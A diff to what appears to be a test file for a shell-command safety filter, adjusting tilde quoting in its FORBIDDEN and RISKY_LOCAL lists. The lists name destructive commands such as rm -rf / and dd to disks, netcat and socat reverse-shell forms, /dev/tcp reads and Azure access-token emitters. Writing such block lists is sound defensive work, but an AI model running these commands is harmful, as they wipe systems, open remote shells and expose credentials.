@@ -15,7 +15,7 @@ FORBIDDEN = [
     # privilege, power, destruction
     "sudo ss -tlnp", "doas ping x", "pkexec id", "/usr/bin/sudo id",
     "shutdown -h now", "reboot", "systemctl poweroff", "systemctl isolate rescue.target", "init 6",
-    "rm -rf /", "rm -rf /*", "rm -fr ~", "rm -r -f /etc", "rm --recursive /usr", "rm --recur /home",
+    "rm -rf /", "rm -rf /*", "rm -fr '~'", "rm -r -f /etc", "rm --recursive /usr", "rm --recur /home",
     "rm -rf --no-preserve-root /", "/bin/rm -rf /home", "chmod -R 777 /", "kill -9 1", "kill -9 -1",
     "mkfs.ext4 /dev/sdb", "wipefs -a /dev/sda", "dd if=/dev/zero of=/dev/sda", "shred /dev/nvme0n1",
     # inline code, eval/exec
@@ -27,7 +27,7 @@ FORBIDDEN = [
     "nc -lvp 4444", "ncat x 1", "socat - tcp:x:1", "socket -svp '/bin/sh -i' 1", "busybox nc -e /bin/sh x 1",
     "cat /dev/tcp/x/1",
     # wrappers unwrapped
-    "env rm -rf /", "nice -n 5 rm -rf ~", "timeout 5 bash -c id", "busybox rm -rf /", "command rm -rf ~",
+    "env rm -rf /", "nice -n 5 rm -rf '~/'", "timeout 5 bash -c id", "busybox rm -rf /", "command rm -rf '~'",
     "xargs sh -c id", "find / -exec sh -c id ';'", "strace -f sudo id", "ssh host rm -rf /", "env FOO=1 sudo id",
     # az credential emitters (DEPENDENCIES.md §4.3)
     "az account get-access-token", "az account get-access-token --resource https://vault.azure.net",
@@ -79,7 +79,7 @@ RISKY_LOCAL = [
     "ip -batch /tmp/x", "ip -force -batch /tmp/x", "ip netns exec foo sh", "ip -n foo addr", "ip xfrm state", "ip monitor",
     "ip route flush table main", "ip neigh del 10.0.0.1 dev eth0", "ss -E", "dig +tls-ca=/etc/shadow x.example",
     # unquoted glob / brace / tilde / backslash never auto-run
-    "ping -c 1 x*", "dig ?.example", "ss -tan '( dport = :443 )' \\;", "ping -c 1 ~",
+    "ping -c 1 x*", "dig ?.example", "ss -tan '( dport = :443 )' \\;", "ping -c 1 x~",
     "az vm list --query [].name",
 ]  # fmt: skip
 
